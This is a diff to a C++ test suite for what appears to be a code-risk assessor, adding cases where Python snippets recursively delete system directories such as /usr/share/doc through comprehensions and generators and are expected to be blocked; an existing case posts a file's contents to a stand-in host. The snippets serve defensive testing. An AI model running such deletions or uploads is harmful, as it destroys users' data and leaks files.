@@ -311,6 +311,21 @@ TEST(AssessDataFlow, AComprehensionsNamesHoldWhatItIteratesUntilItCloses) {
   EXPECT_EQ(level("import requests\nPATHS = ['/etc/hostname']\np = 'notes.txt'\nsizes = [len(p) for p in PATHS]\n"
                   "requests.post('https://x.example/u', data=open(p).read())\n"),
             RiskLevel::medium);
+  // The list a comprehension makes holds what its iterable gives, a call's result too: a glob,
+  // the file's own generator, an object built on each path.
+  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\nvictims = [p for p in Path('/usr/share/doc').glob('*')]\n"
+                  "for v in victims:\n    shutil.rmtree(v)\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\ndef matches(root):\n    for p in Path(root).glob('*'):\n"
+                  "        yield p\nROOTS = ['/usr/share/doc', '/usr/include']\n"
+                  "victims = [p for r in ROOTS for p in matches(r)]\nfor v in victims:\n    shutil.rmtree(v)\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import shutil\nfrom dataclasses import dataclass\n@dataclass\nclass Victim:\n    path: str\n"
+                  "victims = [Victim(p) for p in ['/usr/share/doc']]\nfor v in victims:\n    shutil.rmtree(v.path)\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import shutil\nfrom pathlib import Path\nvictims = [p for p in Path('build').glob('*')]\n"
+                  "for v in victims:\n    shutil.rmtree(v)\n"),
+            RiskLevel::medium);
 }
 
 TEST(AssessDataFlow, ObjectsCarryWhatTheirMethodsAndAttributesHold) {
